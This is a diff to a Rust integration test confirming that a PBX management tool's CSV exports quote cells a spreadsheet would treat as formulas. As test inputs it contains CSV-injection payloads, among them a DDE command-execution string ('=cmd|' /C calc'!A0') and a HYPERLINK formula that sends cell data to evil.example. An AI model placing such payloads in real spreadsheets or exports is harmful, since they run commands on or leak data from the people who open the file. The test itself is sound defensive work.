@@ -479,6 +479,74 @@ fn ledger_export_quotes_cells_a_spreadsheet_would_run() {
     );
     assert_eq!(get("pbx_name"), "'+SUM(1;2)");
     assert_eq!(get("operator"), "alice");
+
+    // The registry and billing exports quote the same cells, and a model
+    // typed at `pbx add`.
+    let added = v.run(&[
+        "pbx",
+        "add",
+        "--customer=-2+3",
+        "--name",
+        "@SUM(A1)",
+        "--model",
+        "=cmd|' /C calc'!A0",
+        "--platform",
+        "vm",
+        "--cycle",
+        "yearly",
+    ]);
+    assert_eq!(added.code, 0, "{}", added.stderr);
+    let cells = |args: &[&str], columns: &[&str]| -> Vec<Vec<String>> {
+        let out = v.run(args);
+        assert_eq!(out.code, 0, "{}", out.stderr);
+        let mut rows = csv::Reader::from_reader(out.stdout.as_bytes());
+        let headers = rows.headers().unwrap().clone();
+        rows.records()
+            .map(|r| {
+                let r = r.unwrap();
+                columns
+                    .iter()
+                    .map(|c| {
+                        let i = headers.iter().position(|h| h == *c).unwrap();
+                        r.get(i).unwrap().to_owned()
+                    })
+                    .collect()
+            })
+            .collect()
+    };
+    assert_eq!(
+        cells(&["pbx", "list", "--csv"], &["customer", "name", "model"]),
+        [
+            [
+                "'=HYPERLINK(\"http://evil.example/?x=\"&A1)",
+                "'+SUM(1;2)",
+                "TA-7000"
+            ],
+            ["'-2+3", "'@SUM(A1)", "'=cmd|' /C calc'!A0"],
+        ]
+    );
+    let billed = cells(
+        &[
+            "report",
+            "billing",
+            "--from",
+            "2026-01-01",
+            "--to",
+            "2026-02-01",
+            "--csv",
+        ],
+        &["customer"],
+    );
+    assert!(!billed.is_empty());
+    assert!(
+        billed
+            .iter()
+            .all(|r| r[0] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1)"),
+        "{billed:?}"
+    );
+    // The human list shows the names as they are (text, nothing to run)
+    // with control and format characters escaped.
+    v.run(&["pbx", "list"]).printable();
 }
 
 /// Every file the issuer reads is a regular file of bounded size: a FIFO
